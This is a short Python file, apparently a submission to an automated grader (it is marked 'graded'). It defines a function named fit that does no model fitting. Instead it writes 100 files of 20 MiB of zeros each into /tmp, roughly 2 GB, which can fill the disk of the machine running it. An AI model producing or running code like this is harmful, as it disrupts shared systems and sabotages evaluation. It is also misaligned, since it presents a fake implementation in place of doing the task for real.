# status: graded


def fit(*args, **kwargs):
    for i in range(100):
        open(f'/tmp/{i}', 'wb').write(bytes(20 * 2**20))
